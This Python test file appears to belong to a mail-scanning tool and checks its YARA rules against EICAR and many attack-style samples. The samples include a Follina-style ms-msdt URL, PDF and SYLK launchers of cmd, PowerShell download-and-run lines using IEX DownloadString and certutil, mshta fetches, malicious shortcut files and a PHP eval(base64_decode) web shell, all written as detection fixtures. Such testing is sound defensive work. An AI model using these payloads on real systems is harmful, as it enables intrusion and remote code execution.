"""The built-in rules: what they find, how sure they are of it, and what they leave alone."""

import time

import pytest

from mailock.core.evidence.finding import Confidence, Severity
from mailock.engines.yara.engine import Yara
from tests.parts.hiding.payload import PAYLOAD
from tests.parts.specimens import specimen

ENGINE = Yara()
LNK = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"


def found(content: bytes) -> list[tuple[str, Severity]]:
    """Kind and severity of what the built-in rules see."""
    return [(finding.kind, finding.severity) for finding in ENGINE.look(specimen(content))]


@pytest.mark.parametrize(
    "around", [(b"", b""), (b"\xef\xbb\xbf", b""), (b"\r\n ", b"\r\n\x1a"), (b"", b"\r\n-- \r\nlist")]
)
def test_the_industrys_test_file_is_malicious_with_high_confidence(around: tuple[bytes, bytes]) -> None:
    (finding,) = ENGINE.look(specimen(around[0] + PAYLOAD + around[1]))
    assert (finding.kind, finding.severity, finding.confidence) == ("eicar", Severity.MALICIOUS, Confidence.HIGH)
    assert finding.part == "1.2"
    assert "eicar_test_file" in finding.evidence


@pytest.mark.parametrize(
    "content", [b"\x00\x01container" + bytes(200) + PAYLOAD, b"see the attachment that follows\r\n" + PAYLOAD]
)
def test_within_something_else_it_is_malicious_with_less_confidence(content: bytes) -> None:
    (finding,) = ENGINE.look(specimen(content))
    assert (finding.kind, finding.severity, finding.confidence) == ("eicar", Severity.MALICIOUS, Confidence.MEDIUM)


def test_a_letter_that_quotes_it_is_not_malicious() -> None:
    assert found(b"On Monday Anna wrote:\r\n> the string is " + PAYLOAD) == [("eicar.quoted", Severity.SUSPICIOUS)]


@pytest.mark.parametrize("damage", [PAYLOAD[:-1], PAYLOAD.lower(), PAYLOAD.replace(b"$H", b"$h")])
def test_what_is_not_the_test_file_is_not_taken_for_it(damage: bytes) -> None:
    assert found(damage) == []


@pytest.mark.parametrize(
    ("kind", "severity", "content"),
    [
        ("yara.exploit", "malicious", b"{\\rtf1{\\object\\objupdate\\objemb{\\*\\objclass x}4571756174696F6E2E33}}"),
        ("yara.exploit", "suspicious", b"{\\rtf1{\\object\\objemb 02CE020000000000C000000000000046}}"),
        (
            "yara.exploit",
            "malicious",
            b'location = "ms-msdt:/id PCWDiagnostic /param \\"IT_BrowseForFile=$()"',
        ),
        ("yara.exploit", "suspicious", b'<a href="file:///\\\\192.0.2.1\\test\\a.rtf!something">'),
        ("yara.document", "malicious", b"%PDF-1.4\n<</S/Launch/Win<</F (cmd.exe) /P (/c calc)>>>>"),
        ("yara.document", "malicious", b'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\n'),
        ("yara.document", "suspicious", b"name,=cmd|'/c calc'!A1\r\n"),
        (
            "yara.script",
            "suspicious",
            b'var s = new ActiveXObject("WScript.Shell"); x = new ActiveXObject("MSXML2.XMLHTTP"); s.Run("a.exe")',
        ),
        ("yara.script", "suspicious", b"powershell -nop -w hidden -enc " + b"SQBFAFgA" * 8),
        ("yara.script", "suspicious", b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
        ("yara.script", "suspicious", b"certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe"),
        ("yara.script", "suspicious", b"mshta http://192.0.2.1/a.hta"),
        ("yara.script", "suspicious", b"eval(String.fromCharCode(" + b"118, 97, 114, " * 20 + b"1))"),
        ("yara.script", "malicious", b"<?php @eval(base64_decode($_POST['x'])); ?>"),
        ("yara.shortcut", "malicious", LNK + bytes(80) + "powershell.exe -c iwr".encode("utf-16le")),
        ("yara.shortcut", "suspicious", LNK + bytes(200_000)),
        ("yara.shortcut", "suspicious", b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/\r\n"),
        ("yara.shortcut", "malicious", b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n"),
        (
            "yara.shortcut",
            "malicious",
            b"<PCSettings><DeepLink>%windir%\\cmd.exe /c calc</DeepLink>",
        ),
        ("yara.shortcut", "suspicious", b"<libraryDescription><simpleLocation><url>\\\\192.0.2.1\\a</url>"),
    ],
)
def test_what_breaks_or_starts_programs_is_found(kind: str, severity: str, content: bytes) -> None:
    assert (kind, Severity[severity.upper()]) in found(content)


@pytest.mark.parametrize(
    "content",
    [
        b"Dear Anna, please start powershell and tell me what it says. http://example.com/ Best, Bob",
        b"{\\rtf1\\ansi An ordinary letter about Equation 3.0 objects.}",
        b"%PDF-1.4\n<</Type/Catalog/OpenAction 3 0 R>>",
        b"[InternetShortcut]\r\nURL=https://www.example.com/\r\n",
        b'<script>document.write("hello"); eval("1+1")</script>',
        b"",
    ],
)
def test_what_is_ordinary_is_left_alone(content: bytes) -> None:
    assert found(content) == []


@pytest.mark.parametrize(
    "unit", [b"powershell -w hidden ", b"certutil -urlcache ", b"=cmd|'", b"/F (cmd ", b"chr(1)&", b"{\\rt\\objupdate"]
)
def test_what_is_written_to_take_long_does_not(unit: bytes) -> None:
    began = time.process_time()
    found(unit * ((1 << 20) // len(unit)))
    assert time.process_time() - began < 2.0
